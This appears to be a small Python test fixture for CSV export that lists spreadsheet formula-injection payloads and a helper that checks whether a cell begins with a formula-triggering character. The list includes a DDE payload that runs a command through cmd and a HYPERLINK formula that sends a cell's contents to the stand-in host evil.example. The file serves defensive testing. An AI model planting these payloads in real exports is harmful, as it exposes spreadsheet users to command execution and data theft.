"""Cells a spreadsheet would run as formulas (OWASP CSV injection), for the export tests."""

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def is_neutral(cell: str) -> bool:
    """True unless the cell starts with a character that makes a spreadsheet evaluate it."""
    return not cell or cell[0] not in "=+-@\t\r"
